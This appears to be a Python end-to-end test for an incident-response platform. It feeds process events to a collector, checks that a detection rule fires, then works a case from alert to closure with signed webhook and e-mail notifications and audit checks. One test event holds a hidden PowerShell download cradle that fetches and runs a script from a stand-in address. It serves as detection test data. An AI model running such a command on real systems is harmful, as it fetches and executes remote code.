"""Incident response end to end, over a real ``vigil serve`` and real receivers on loopback.

Events are sent to the HTTP collector, a Sigma rule fires in streaming detection, the alert is
grouped into an incident, an analyst opens a case from the ransomware template with a task for
herself and one for an operations engineer, the notifications arrive at a local webhook
(HMAC-signed) and a local SMTP server, the case is contained, resolved, reviewed and closed,
and the metrics show the measured times to acknowledge and resolve. The audit chain verifies.
"""

from __future__ import annotations

import hashlib
import hmac
import subprocess
import time
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any, TypeVar

import httpx
import orjson

from helpers import VIGIL, free_port, ok, run_vigil, server
from respond.servers import mailbox, receiving
from vigil.core.timeutil import utcnow
from vigil.demo import DEMO_RULES

T = TypeVar("T")
HOOK_SECRET = "scenario hook secret"
PASSWORDS = {"alice": "alice long password", "oscar": "oscar long password",
             "root": "root long password"}


def _add_user(data_dir: Path, name: str, role: str, team: str) -> None:
    done = subprocess.run([*VIGIL, "--data-dir", str(data_dir), "users", "add", name, "--role", role,
                           "--team", team, "--email", f"{name}@example.org", "--password-stdin"],
                          input=PASSWORDS[name] + "\n", capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def _eventually(probe: Callable[[], T | None], what: str, timeout: float = 60) -> T:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = probe()
        if value:
            return value
        time.sleep(0.2)
    raise AssertionError(f"timed out waiting for {what}")


def _sysmon(host: str, command: str) -> dict[str, Any]:
    return {"@timestamp": utcnow().isoformat().replace("+00:00", "Z"), "Hostname": host,
            "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
            "SourceName": "Microsoft-Windows-Sysmon",
            "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "CommandLine": command, "ParentImage": r"C:\Windows\explorer.exe",
            "User": "CORP\\anna", "ProcessId": "4242"}


class Client:
    def __init__(self, base: str, token: str) -> None:
        self.http = httpx.Client(base_url=f"{base}/api/v1", timeout=30,
                                 headers={"Authorization": f"Bearer {token}"})

    def __call__(self, method: str, path: str, expect: int = 200, **kwargs: Any) -> Any:
        answer = self.http.request(method, path, **kwargs)
        assert answer.status_code == expect, f"{method} {path}: {answer.status_code} {answer.text}"
        return answer.json() if answer.content else None


def _login(base: str, name: str) -> Client:
    answer = httpx.post(f"{base}/api/v1/auth/login",
                        json={"username": name, "password": PASSWORDS[name]}, timeout=30)
    assert answer.status_code == 200, answer.text
    return Client(base, answer.json()["token"])


def _setup(data_dir: Path) -> str:
    _add_user(data_dir, "alice", "analyst", "security")
    _add_user(data_dir, "oscar", "responder", "operations")
    _add_user(data_dir, "root", "admin", "security")
    ok(run_vigil(data_dir, "rules", "import", str(DEMO_RULES / "powershell_download_cradle.yml")))
    out = ok(run_vigil(data_dir, "tokens", "create", "collector", "--scope", "ingest")).out
    return out.strip().splitlines()[-1]


def _configure_notifications(admin: Client, hook_url: str, smtp_port: int) -> None:
    hook = admin("POST", "/notify/channels", 201, json={
        "name": "soc-hook", "kind": "webhook", "secret": HOOK_SECRET, "config": {"url": hook_url}})
    mail = admin("POST", "/notify/channels", 201, json={
        "name": "mail", "kind": "email",
        "config": {"host": "127.0.0.1", "port": smtp_port, "from_address": "vigil@example.org"}})
    admin("POST", "/notify/rules", 201, json={
        "name": "high-alerts", "topics": ["alert.created"], "min_severity": "high",
        "channel_id": hook["id"]})
    admin("POST", "/notify/rules", 201, json={
        "name": "assignments", "topics": ["case.assigned", "task.assigned", "comment.mentioned"],
        "channel_id": mail["id"], "event_recipients": True})


def _verify_hook(request: Any) -> dict[str, Any]:
    headers = {k.lower(): v for k, v in request.headers.items()}
    expected = hmac.new(HOOK_SECRET.encode(), headers["x-vigil-timestamp"].encode() + b"."
                        + request.body, hashlib.sha256).hexdigest()
    assert hmac.compare_digest(headers["x-vigil-signature"], f"sha256={expected}")
    payload: dict[str, Any] = orjson.loads(request.body)
    return payload


def test_event_to_closed_case(data_dir: Path) -> None:
    collector = _setup(data_dir)
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    settings = {"VIGIL_NOTIFY__POLL_INTERVAL": "0.3", "VIGIL_NOTIFY__SETTLE_SECONDS": "0.5",
                "VIGIL_SERVER__CLOCK_CHECK_SECONDS": "1"}
    with receiving() as hooks, mailbox() as mails, server(data_dir, port, free_port(), **settings):
        admin = _login(base, "root")
        _configure_notifications(admin, hooks.url("/hook"), mails.port)

        # Events in: one download cradle among ordinary process starts.
        events = [_sysmon("WKS-ANNA", f'"notepad.exe" file{i}.txt') for i in range(20)]
        events.append(_sysmon("WKS-ANNA", "powershell.exe -nop -w hidden -c \"IEX (New-Object "
                                          "Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')\""))
        answer = httpx.post(f"{base}/api/v1/ingest", content=b"\n".join(orjson.dumps(e) for e in events),
                            headers={"Authorization": f"Bearer {collector}"}, timeout=30)
        assert answer.status_code == 202, answer.text

        # The rule fires; the alert joins an incident; the webhook hears of it, signed.
        alice = _login(base, "alice")
        alert = _eventually(lambda: (alice("GET", "/alerts")["items"] or [None])[0], "the alert")
        assert alert["host"] == "WKS-ANNA" and alert["severity"] == "high"
        assert alert["rule_author"], "every alert shows the rule's author"
        incident = alice("GET", f"/incidents/{alert['incident_id']}")
        assert incident["alert_count"] >= 1 and alert["id"] in [a["id"] for a in incident["alerts"]]
        hook = _verify_hook(_eventually(lambda: hooks.on("/hook")[:1], "the webhook")[0])
        assert hook["topic"] == "alert.created"

        # Triage: acknowledge, then open a case from the ransomware template for both teams.
        alice("POST", f"/alerts/{alert['id']}/ack")
        case = alice("POST", "/cases", 201, json={
            "title": "Download cradle on WKS-ANNA", "template": "ransomware", "severity": "high",
            "incident_id": alert["incident_id"], "assignees": ["alice", "oscar"],
            "tasks": [{"title": "Isolate WKS-ANNA from the network", "owner": "oscar",
                       "mandatory": True},
                      {"title": "Analyse the downloaded script", "owner": "alice"}]})
        case_id = case["id"]
        assert alert["id"] in case["alert_ids"]
        assert len(case["tasks"]) > 2, "the template pre-fills tasks"
        oscar = _login(base, "oscar")
        alice("POST", f"/cases/{case_id}/comments", 201,
              json={"body": "@oscar please isolate the host before the next backup run"})

        # Both people are told: by e-mail, for their assignment, task and mention.
        _eventually(lambda: len(mails.to("oscar@example.org")) >= 3, "oscar's e-mails")
        _eventually(lambda: mails.to("alice@example.org"), "alice's e-mails")
        subjects = " | ".join(str(m["Subject"]) for m in mails.to("oscar@example.org"))
        assert "Isolate WKS-ANNA" in subjects or "task" in subjects.lower()

        # Work the case: in progress, contained, tasks done, resolved.
        alice("PATCH", f"/cases/{case_id}", json={"stage": "in_progress", "phase": "containment"})
        for task in alice("GET", f"/cases/{case_id}/tasks"):
            worker = oscar if task["owner_name"] == "oscar" else alice
            worker("PATCH", f"/cases/{case_id}/tasks/{task['id']}", json={"status": "done"})
        oscar("PATCH", f"/cases/{case_id}", json={"phase": "eradication"})
        alice("PATCH", f"/cases/{case_id}", json={"phase": "recovery", "stage": "resolved"})

        # Closing a true positive needs the post-incident review first.
        closing = {"disposition": "true_positive_with_impact",
                   "closing_note": "Host reimaged, credentials rotated."}
        refused = alice.http.post(f"/cases/{case_id}/close", json=closing)
        assert refused.status_code == 409 and "review" in refused.text
        alice("PUT", f"/cases/{case_id}/review", json={
            "summary": "PowerShell download cradle on a workstation",
            "what_happened": "A user ran a macro that started a download cradle.",
            "root_cause": "Macros allowed from the internet.", "went_well": "Detected in minutes.",
            "went_badly": "Isolation took a manual step."})
        alice("POST", f"/cases/{case_id}/review/actions", 201,
              json={"title": "Block internet macros by policy", "owner": "oscar"})
        alice("POST", f"/cases/{case_id}/review/complete")
        closed = alice("POST", f"/cases/{case_id}/close", json=closing)
        assert closed["stage"] == "closed"

        # The metrics show what was measured; the audit chain holds.
        since = (utcnow() - timedelta(hours=1)).isoformat()
        metrics = alice("GET", "/metrics", params={"since": since})
        measured = {(d["name"], d["subject"], d["severity"]): d for d in metrics["durations"]}
        assert measured[("mtta", "alerts", "all")]["count"] == 1
        assert measured[("mtta", "alerts", "all")]["median_seconds"] >= 0
        resolve = measured[("mttr_from_open", "cases", "all")]
        assert resolve["count"] == 1 and resolve["median_seconds"] > 0
        assert measured[("mttc", "cases", "all")]["count"] == 1
        assert metrics["cases"] == 1 and metrics["incidents"] >= 1
        assert admin("GET", "/audit/verify")["ok"] is True
        trail = admin("GET", "/audit", params={"object_type": "case", "limit": 1000})["items"]
        assert {"user:alice", "user:oscar"} <= {e["actor"] for e in trail}
